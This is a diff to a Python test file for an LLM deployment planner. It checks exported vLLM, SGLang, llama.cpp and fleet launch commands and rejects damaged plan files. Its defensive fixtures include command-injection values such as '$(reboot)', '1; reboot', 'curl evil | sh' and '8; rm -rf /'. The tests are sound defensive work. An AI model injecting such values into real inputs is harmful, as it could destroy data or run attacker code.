@@ -11,7 +11,7 @@ from planner import solve
 from planner.catalog.load import load_catalog
 from planner.errors import PlannerInputError
 from planner.render.export import export, load_plan
-from planner.render.report import solve_json
+from planner.render.records import solve_json
 
 DATA = Path(__file__).parent / "data"
 ENGINE_ARGS = yaml.safe_load((DATA / "engine-args.yaml").read_text())
@@ -133,17 +133,30 @@ def test_plan_index_and_bad_files(single_node, tmp_path):
 # --------------------------------------------------------------------------------------------
 # Issue 12: deployments that start (each test failed before its fix)
 
-from dataclasses import replace  # noqa: E402
+from dataclasses import fields, replace  # noqa: E402
 
 from planner import api  # noqa: E402
 from planner.estimator.engines import EngineSettings  # noqa: E402
+from planner.plan.configuration import Configuration  # noqa: E402
 from planner.render.export import vllm_image, vllm_version  # noqa: E402
+
+CONFIGURATION_FIELDS = {f.name for f in fields(Configuration)}
+
+
+def changed(plan, **changes):
+    """The plan with configuration fields (gpu, tp, precision, context ...) and export fields changed together."""
+    config = {k: v for k, v in changes.items() if k in CONFIGURATION_FIELDS}
+    rest = {k: v for k, v in changes.items() if k not in CONFIGURATION_FIELDS}
+    if "gpu" in config:
+        card = CATALOG.gpus.get(config["gpu"])
+        rest = {"vendor": card.vendor, "skypilot_accelerator": card.skypilot_accelerator, **rest}
+    if "precision" in config:
+        rest["weights"] = CATALOG.precisions.get(config["precision"])
+    return replace(plan, configuration=replace(plan.configuration, **config), **rest)
 
 
 def on(plan, gpu: str, provider: str, region: str = "unspecified", **changes):
-    card = CATALOG.gpus.get(gpu)
-    return replace(plan, gpu=card.name, vendor=card.vendor, skypilot_accelerator=card.skypilot_accelerator,
-                   provider=provider, region=region, **changes)
+    return changed(plan, gpu=gpu, provider=provider, region=region, **changes)
 
 
 def test_skypilot_refuses_multi_node_where_the_cloud_has_none(multi_node):
@@ -192,7 +205,7 @@ def test_amd_plans_run_vllms_rocm_build(single_node):
 
 
 def test_int8_exports_the_prequantized_checkpoint(single_node):
-    plan = replace(load_plan(single_node, CATALOG), precision=CATALOG.precisions.get("int8"))
+    plan = changed(load_plan(single_node, CATALOG), precision="int8")
     [argv] = command_lines(export(plan, "vllm"), "vllm serve")
     assert argv[0] == "RedHatAI/Meta-Llama-3.1-8B-Instruct-quantized.w8a8" and "--quantization" not in argv
     [argv] = command_lines(export(plan, "sglang"), "python3 -m sglang.launch_server")
@@ -203,8 +216,8 @@ def test_int8_exports_the_prequantized_checkpoint(single_node):
 
 
 def test_int8_without_a_known_checkpoint_needs_one(single_node):
-    plan = replace(load_plan(single_node, CATALOG), model_id="meta-llama/Llama-3.1-70B-Instruct",
-                   precision=CATALOG.precisions.get("int8"))
+    plan = changed(load_plan(single_node, CATALOG), model="llama-3.1-70b", model_id="meta-llama/Llama-3.1-70B-Instruct",
+                   precision="int8")
     with pytest.raises(PlannerInputError, match="--checkpoint"):
         export(plan, "vllm")
     [argv] = command_lines(export(plan, "vllm", checkpoint="my-org/Llama-70B-w8a8"), "vllm serve")
@@ -220,14 +233,14 @@ def _graph_warning(plan, utilization):
 
 
 def test_the_cuda_graph_start_up_warning_is_exported_away(single_node):
-    plan = replace(on(load_plan(single_node, CATALOG), "rtx-4090", "runpod"), precision=CATALOG.precisions.get("fp8"),
-                   kv_dtype="fp8", context=8192, concurrency=4, tp=1, pp=1, gpus_per_replica=1, gpu_memory_utilization=0.95)
+    plan = on(load_plan(single_node, CATALOG), "rtx-4090", "runpod", precision="fp8", kv_dtype="fp8", context=8192,
+              concurrency=4, tp=1, pp=1, engine=EngineSettings("vllm"), gpu_memory_utilization=0.95)
     assert _graph_warning(plan, 0.95)  # what the plan itself would start with
     [argv] = command_lines(export(plan, "vllm"), "vllm serve")
     exported = float(flags_and_values(argv)["--gpu-memory-utilization"])
     assert exported < 0.95 and not _graph_warning(plan, exported) and "--enforce-eager" not in argv
     # no lower utilization holds 26 sequences: run eager instead
-    full = replace(plan, concurrency=26)
+    full = changed(plan, concurrency=26)
     [argv] = command_lines(export(full, "vllm"), "vllm serve")
     assert "--enforce-eager" in argv and flags_and_values(argv)["--gpu-memory-utilization"] == "0.95"
     assert set(flags_and_values(argv)) <= set(ENGINE_ARGS["vllm"]["value_flags"] + ENGINE_ARGS["vllm"]["switch_flags"])
@@ -246,12 +259,12 @@ def test_llamacpp_quantized_v_cache_turns_flash_attention_on(gguf_plan):
     flags = flags_and_values(argv)
     assert flags["--cache-type-v"] == "q8_0" and flags["--flash-attn"] == "on"
     assert set(flags) <= set(ENGINE_ARGS["llamacpp"]["value_flags"])
-    [argv] = command_lines(export(replace(gguf_plan, kv_dtype="fp16"), "llamacpp"), "llama-server")
+    [argv] = command_lines(export(changed(gguf_plan, kv_dtype="fp16"), "llamacpp"), "llama-server")
     assert "--flash-attn" not in argv
 
 
 def test_llamacpp_sizes_fp8_kv_as_q8_0(gguf_plan):
-    plan = replace(gguf_plan, context=32768)
+    plan = changed(gguf_plan, context=32768)
 
     def fits(sequences: int) -> bool:  # llama.cpp's profile with q8_0: 34 bytes per 32 values
         return api.engine_estimate(plan.model_id, EngineSettings("llamacpp", cache_type="q8_0", flash_attn=True),
@@ -260,10 +273,10 @@ def test_llamacpp_sizes_fp8_kv_as_q8_0(gguf_plan):
 
     most = max(n for n in range(1, 65) if fits(n))
     assert most < 64
-    [argv] = command_lines(export(replace(plan, concurrency=most), "llamacpp"), "llama-server")
+    [argv] = command_lines(export(changed(plan, concurrency=most), "llamacpp"), "llama-server")
     assert flags_and_values(argv)["--parallel"] == str(most)
     with pytest.raises(PlannerInputError, match="q8_0 cache"):
-        export(replace(plan, concurrency=most + 1), "llamacpp")
+        export(changed(plan, concurrency=most + 1), "llamacpp")
 
 
 def test_sglang_on_amd_long_context_uses_the_aiter_fraction_the_profile_sized(single_node):
@@ -273,15 +286,15 @@ def test_sglang_on_amd_long_context_uses_the_aiter_fraction_the_profile_sized(si
     nvidia = (api.engine_estimate("llama-3.1-8b", settings, context=c, gpu="h200-sxm").engine for c in (8192, 8193))
     assert len({e.budget_bytes for e in nvidia}) == 1
 
-    plan = replace(on(load_plan(single_node, CATALOG), "mi300x", "runpod"), precision=CATALOG.precisions.get("bf16"),
-                   kv_dtype="bf16", context=131072, tp=1, pp=1, gpus_per_replica=1)
+    plan = on(load_plan(single_node, CATALOG), "mi300x", "runpod", precision="bf16", kv_dtype="bf16", context=131072,
+              tp=1, pp=1, engine=EngineSettings("vllm"))
     held = api.engine_estimate(plan.model_id, settings, context=plan.context, precision="bf16", gpu="mi300x").engine
-    fits = replace(plan, concurrency=int(held.max_concurrency))
+    fits = changed(plan, concurrency=int(held.max_concurrency))
     [argv] = command_lines(export(fits, "sglang"), "python3 -m sglang.launch_server")
     flags = flags_and_values(argv)
     assert flags["--attention-backend"] == "aiter" and float(flags["--mem-fraction-static"]) == held.settings.mem_fraction_static
     with pytest.raises(PlannerInputError, match="SGLang's pool holds"):
-        export(replace(plan, concurrency=int(held.max_concurrency) + 1), "sglang")
+        export(changed(plan, concurrency=int(held.max_concurrency) + 1), "sglang")
 
 
 def test_hf_token_comes_from_a_secret(single_node, multi_node):
@@ -296,7 +309,7 @@ def test_hf_token_comes_from_a_secret(single_node, multi_node):
 
 def test_untrusted_plan_values_stay_data(single_node):
     plan = load_plan(single_node, CATALOG)
-    hostile = replace(plan, model_id="org/$(reboot)'x", name="a\nb")
+    hostile = changed(plan, model_id="org/$(reboot)'x", name="a\nb")
     with pytest.raises(PlannerInputError, match="name"):
         export(hostile, "skypilot")
     quoted = replace(hostile, name="n")
@@ -306,4 +319,128 @@ def test_untrusted_plan_values_stay_data(single_node):
         [argv] = command_lines(run, "vllm serve")
         assert argv[0] == "org/$(reboot)'x"  # one shell word, never expanded
     with pytest.raises(PlannerInputError, match="tp"):
-        export(replace(plan, tp="1; reboot"), "skypilot")
+        export(changed(plan, tp="1; reboot"), "skypilot")
+
+# --- plans carry the settings they were checked with ---------------------------------------------------
+
+def test_export_uses_the_utilization_the_plan_was_checked_with(tmp_path):
+    path = write_plan(tmp_path, {
+        "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 8},
+        "search": {"gpus": ["l40s"], "precisions": ["bf16"]}, "engine": {"gpu_memory_utilization": 0.85}})
+    best = json.loads(path.read_text())["best"]
+    assert best["engine"]["name"] == "vllm" and best["engine"]["gpu_memory_utilization"] == 0.85
+    assert best["model"] == "llama-3.1-8b" and best["model_id"] == "meta-llama/Llama-3.1-8B-Instruct"
+    assert best["max_model_len"] == 8192 and best["kv_dtype"] == "bf16"
+    [argv] = command_lines(export(load_plan(path, CATALOG), "vllm"), "vllm serve")
+    assert flags_and_values(argv)["--gpu-memory-utilization"] == "0.85"
+
+
+def test_sglang_gets_the_static_fraction_its_plan_used(tmp_path):
+    path = write_plan(tmp_path, {
+        "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 4},
+        "search": {"gpus": ["h100-sxm"], "precisions": ["bf16"]}, "engine": {"name": "sglang"}})
+    fraction = json.loads(path.read_text())["best"]["engine"]["mem_fraction_static"]
+    assert 0 < fraction < 1
+    [argv] = command_lines(export(load_plan(path, CATALOG), "sglang"), "python3 -m sglang.launch_server")
+    assert float(flags_and_values(argv)["--mem-fraction-static"]) == fraction  # exactly what the plan was checked with
+
+
+@pytest.fixture(scope="module")
+def fleet_file(tmp_path_factory):
+    from planner import api
+    from planner.render.records import fleet_json
+
+    plan = api.plan_fleet({
+        "name": "chat", "model": "llama-3.1-8b",
+        "workload": {"context": 4096, "traffic": {"requests_per_s": 4, "prompt_tokens": 1000, "output_tokens": 200},
+                     "slo": {"ttft_s": 2, "tpot_s": 0.05}},
+        "search": {"gpus": ["l40s", "h100-sxm"], "precisions": ["bf16"]},
+        "pricing": {"providers": ["lambda", "runpod"]}}, catalog=CATALOG)
+    path = tmp_path_factory.mktemp("f") / "fleet.json"
+    path.write_text(fleet_json(plan, "chat"))
+    return path
+
+
+def test_a_fleet_plan_exports_one_launch_per_assignment_with_its_settings(fleet_file):
+    from planner.render.export import export_all, load_plans
+
+    rows = json.loads(fleet_file.read_text())["assignments"]
+    plans = load_plans(fleet_file, CATALOG)
+    assert rows and len(plans) == len(rows)
+    launches = command_lines(export_all(plans, "vllm"), "vllm serve")
+    assert len(launches) == len(rows)
+    for row, argv in zip(rows, launches):
+        flags = flags_and_values(argv)
+        assert argv[0] == row["model_id"] == "meta-llama/Llama-3.1-8B-Instruct"
+        assert flags["--tensor-parallel-size"] == str(row["tp"]) and flags["--max-model-len"] == str(row["max_model_len"])
+        assert flags["--gpu-memory-utilization"] == f"{row['engine']['gpu_memory_utilization']:.2f}"
+    only = load_plans(fleet_file, CATALOG, assignment=len(rows) - 1)
+    assert len(only) == 1 and only[0].replicas == rows[-1]["replicas"]
+    with pytest.raises(PlannerInputError, match="--assignment"):
+        load_plans(fleet_file, CATALOG, assignment=len(rows))
+    docs = list(yaml.safe_load_all(export_all(plans, "kubernetes")))
+    assert len({d["metadata"]["name"] for d in docs}) == len(rows)
+
+
+# --- damaged and hostile plan files: one line naming the problem --------------------------------------
+
+def _set(path: list, value):
+    def change(data):
+        target = data
+        for key in path[:-1]:
+            target = target[key]
+        target[path[-1]] = value
+        return json.dumps(data)
+    return change
+
+
+DAMAGED = {
+    "alternatives null": (_set(["alternatives"], None), "alternatives"),
+    "alternatives an int": (_set(["alternatives"], 5), "alternatives"),
+    "tp a string": (_set(["best", "tp"], "2"), "best.tp"),
+    "tp 3 on 8 KV heads": (_set(["best", "tp"], 3), "attention heads"),
+    "context -5": (_set(["best", "context"], -5), "best.context"),
+    "context null": (_set(["best", "context"], None), "best.context"),
+    "model_id not a string": (_set(["best", "model_id"], 7), "best.model_id"),
+    "model_id with a newline": (_set(["best", "model_id"], "x\ncurl evil | sh"), "best.model_id"),
+    "gpus_per_instance a string": (_set(["best", "gpus_per_instance"], "8; rm -rf /"), "best.gpus_per_instance"),
+    "gpus_per_instance huge": (_set(["best", "gpus_per_instance"], 10**9), "best.gpus_per_instance"),
+    "unknown gpu": (_set(["best", "gpu"], "h10"), "unknown gpu"),
+    "engine settings out of range": (_set(["best", "engine", "gpu_memory_utilization"], 7), "gpu_memory_utilization"),
+    "NaN": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": NaN'), "NaN"),
+    "Infinity": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": Infinity'), "Infinity"),
+    "1e400": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": 1e400'), "1e400"),
+    "10^400": (_set(["best", "context"], 10**400), "best.context"),
+    "deep nesting": (lambda d: "[" * 100_000 + "]" * 100_000, "plan"),
+    "another tool's JSON": (lambda d: json.dumps({"version": 1, "deployments": []}), "not a `planner solve"),
+    "a list": (lambda d: "[]", "not a `planner solve"),
+    "an older plan file": (lambda d: json.dumps({k: v for k, v in d.items() if k != "schema_version"}), "schema_version"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(DAMAGED))
+def test_damaged_plan_files_are_refused_in_one_line(single_node, tmp_path, case):
+    damage, needle = DAMAGED[case]
+    bad = tmp_path / "bad.json"
+    bad.write_text(damage(json.loads(single_node.read_text())))
+    with pytest.raises(PlannerInputError) as info:
+        load_plan(bad, CATALOG)
+    message = str(info.value)
+    assert needle in message and "\n" not in message and len(message) < 400
+
+
+def test_a_plan_file_that_is_not_a_regular_file(tmp_path):
+    with pytest.raises(PlannerInputError, match="not a regular file"):
+        load_plan(tmp_path, CATALOG)
+
+
+def test_export_command_exits_2_on_a_damaged_plan(single_node, tmp_path):
+    import subprocess
+    import sys
+
+    bad = tmp_path / "bad.json"
+    bad.write_text(_set(["best", "context"], -5)(json.loads(single_node.read_text())))
+    proc = subprocess.run([sys.executable, "-m", "planner.cli", "export", str(bad), "--to", "vllm"],
+                          capture_output=True, text=True, cwd=tmp_path)
+    assert proc.returncode == 2 and proc.stdout == ""
+    assert len(proc.stderr.strip().splitlines()) == 1 and "best.context" in proc.stderr
